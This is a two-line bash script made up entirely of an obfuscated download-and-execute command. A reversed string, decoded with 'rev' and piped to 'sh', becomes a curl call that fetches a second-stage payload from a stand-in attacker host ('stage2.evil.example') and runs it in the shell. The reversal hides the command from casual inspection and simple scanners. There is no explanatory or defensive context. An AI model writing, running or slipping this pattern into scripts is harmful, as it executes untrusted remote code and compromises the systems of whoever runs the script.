#!/bin/bash
echo 'hs | x/elpmaxe.live.2egats//:sptth s- lruc' | rev | sh
